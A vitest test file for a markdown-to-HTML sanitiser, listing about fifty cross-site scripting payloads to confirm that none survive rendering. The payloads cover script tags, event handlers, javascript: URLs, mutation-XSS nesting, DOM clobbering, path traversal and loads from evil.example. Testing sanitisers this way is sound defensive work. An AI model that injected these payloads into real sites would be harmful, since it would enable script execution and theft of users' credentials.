import { describe, expect, test } from 'vitest'
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from './allowed-html'
import { markdownToHtml } from './markdown-to-html'
import { renderMarkdown } from './render-markdown'

const PATH = '0b0c0d0e-0000-4000-8000-000000000001/tea.png'
const FILES = {
  files: [
    {
      path: PATH,
      name: 'Tea.png',
      size: 9,
      type: 'image/png',
      width: 640,
      height: 480,
      alt: '"><x',
    },
  ],
  facts: () => '<b onclick="alert(1)">PNG</b>',
  enlarges: true,
}

function render(source: string, files?: typeof FILES): HTMLElement {
  const holder = document.createElement('div')
  holder.append(renderMarkdown(source, { files }))
  return holder
}

const OWN_TAGS = ['button', 'label']
const OWN_ATTRIBUTES = [
  ...['target', 'rel', 'aria-label', 'aria-hidden', 'loading', 'decoding', 'referrerpolicy'],
  ...['disabled', 'data-grammar', 'data-scroll-name'],
  ...['data-file', 'download', 'role', 'tabindex'],
]

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.org/a.png" onload="alert(1)" style="position:fixed">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"><img src=x onerror=alert(1)></iframe>',
  '<iframe title="<img src=x onerror=alert(1)>" src="https://evil.example/"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=p type=password><button>Go</button></form>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
  '<a href="&#106;avascript:alert(1)">x</a><a href="\tjava\nscript:alert(1)">x</a>',
  '[x](javascript:alert(1)) [x](data:text/html;base64,AAAA) ![x](javascript:alert(1))',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div markdown="1" onclick="alert(1)" style="color:red">x</div>',
  '<div markdown="1"><script>alert(1)</script></div>',
  '<p markdown=1 onmouseover=alert(1)>x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio autoplay></audio>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js\n</code></pre><img src=x onerror=alert(1)>\n```',
  '`</code><img src=x onerror=alert(1)>`',
  '<img alt="<x onmouseover=alert(1)>" src=https://example.org/a>',
  '<Foo onclick="alert(1)" /> <my-x onclick="alert(1)"></my-x> <foo onclick=alert(1)>',
  '<div class="md-copy" id="root" data-theme="x" role="alert" aria-label="x" tabindex="1">x</div>',
  '<a id="cookie" name="body" href="https://example.org" target="_top" ping="https://evil.example">x</a>',
  '## <img src=x onerror=alert(1)> {#x"onclick="alert(1)}',
  'x{: onclick="alert(1)" style="color:red" .y}',
  '*x*{: onclick="alert(1)" .y}',
  '<select><option>a</select><textarea></textarea><dialog open>x</dialog><marquee onstart=alert(1)>x',
  '<table background="javascript:alert(1)"><td style="x" bgcolor=red>x</table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x/><title><img src=x onerror=alert(1)></title>',
  'x[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: <img src=x onerror=alert(1)>',
  'x[^cookie] y[^__proto__] z[^constructor]\n\n[^cookie]: [x](javascript:alert(1))\n[^__proto__]: a\n[^constructor]: b',
  'x[^a]\n\n[^a]: <a href="javascript:alert(1)" id="root" name="body">x</a> <form id="location">',
  '<section class="footnote" id="fn-a" onclick="alert(1)"><script>alert(1)</script></section><sup class="footnote-ref"><a href="#fn-a" onclick="alert(1)" id="root">x</a></sup>',
  '<sup class="md-footnote-ref"><a href="#fn-%22%3E" data-x=1 aria-label="x">x</a></sup>',
  '```js title="\\"><img src=x onerror=alert(1)>"\ncode\n```',
  "```js title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'\ncode\n```",
  '<pre title="x" onclick="alert(1)" data-x="y"><code class="language-js md-copy" title="z">x</code></pre>',
  `![x" onerror="alert(1)](lesson-files/${PATH}) [x](lesson-files/${PATH} "a' onclick=alert(1)")`,
  `<img src="lesson-files/${PATH}" onload=alert(1) srcset="lesson-files/${PATH} 2x" data-file="x" width="9e9" height=-1>`,
  `<a href="lesson-files/${PATH}" download="a.html" target=_top role=button tabindex=9 data-file="../x" onclick=alert(1)>x</a>`,
  '<img src="lesson-files/../../admin"> <a href="lesson-files/%2e%2e/admin?token=x">x</a> [x](lesson-files/javascript:alert(1))',
  `<img src="/lesson-files/${PATH}"> <a href="./lesson-files/${PATH}">x</a> <a href="LESSON-FILES/${PATH}">x</a>`,
  '<ul><li><input type=checkbox onclick=alert(1) formaction=javascript:1 name=q form=f></ul>',
]

describe('the sanitiser', () => {
  const cases = HOSTILE.flatMap((source) => [
    [source, undefined] as const,
    [source, FILES] as const,
  ])
  test.each(cases)('leaves nothing that runs or loads: %s, files %o', (source, files) => {
    const page = render(source, files)
    for (const element of page.querySelectorAll('*')) {
      expect([...ALLOWED_TAGS, ...OWN_TAGS]).toContain(element.localName)
      for (const { name, value } of element.attributes) {
        expect([...ALLOWED_ATTRIBUTES, ...OWN_ATTRIBUTES]).toContain(name)
        if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|#user-content-)/)
        if (name === 'src') expect(value).toMatch(/^https?:\/\//)
        if (name === 'data-file') expect(value).toBe(PATH)
        if (name === 'download') expect(value).toBe('Tea.png')
        if (name === 'role') expect([element.localName, value]).toEqual(['a', 'link'])
        if (name === 'tabindex') expect(value).toBe('0')
        if (name === 'id') expect(value).toMatch(/^user-content-/)
        if (name === 'class') expect(value).toMatch(/^(?:(?:md|user-content)-\S+ ?)+$/)
      }
      if (element instanceof HTMLInputElement) expect(element.outerHTML).toMatch(/disabled/)
    }
  })

  test('keeps the text of the elements that it removes', () => {
    const page = render('<form>Name <button>Send</button></form>\n\n<center> Middle</center>')
    expect(page.textContent?.replace(/\s+/g, ' ').trim()).toBe('Name Send Middle')
  })

  test('replaces a frame by a link', () => {
    const page = render('<iframe src="https://example.org/?a=1&amp;b=2" title="Try it"></iframe>')
    expect(page.querySelector('a')?.getAttribute('href')).toBe('https://example.org/?a=1&b=2')
    expect(page.querySelector('a')?.firstChild?.textContent).toBe('Try it')
  })

  test("prefixes the author's ids and classes, so that they differ from the product's", () => {
    const page = render('<div id="root" class="md-copy note">x</div>')
    expect(page.innerHTML).toContain(
      '<div class="user-content-md-copy user-content-note" id="user-content-root" dir="ltr">',
    )
  })

  test('gets HTML without styles, because the browser would report each one while parsing', () => {
    const html = markdownToHtml('<p class="a" style="color: red" id=b>x</p>\n\n`style="y"`')
    expect(html).toContain('<p class="a" id=b>x</p>')
    expect(html).toContain('style=&quot;y&quot;')
  })

  test('gets HTML without event handlers, style elements and base elements for the same reason', () => {
    const html = markdownToHtml(
      '<p><img src="a"onerror="x()" alt=b><svg/onload=x()></p>\n\n<base href="https://evil.example/">\n\n<style>p{}</style>\n\n`onclick="y"`',
    )
    expect(html).not.toMatch(/onerror|onload|<base|<style/)
    expect(html).toContain('<img src="a" alt=b>')
    expect(html).toContain('onclick=&quot;y&quot;')
    expect(render('a <style>p{color:red}</style> b').textContent).not.toContain('color')
  })

  test('adds no styles', () => {
    const page = render('<p style="color:red">a</p>\n\n| a |\n|:-:|\n| b |\n\n```js\na\n```')
    expect(page.querySelector('[style]')).toBeNull()
  })
})
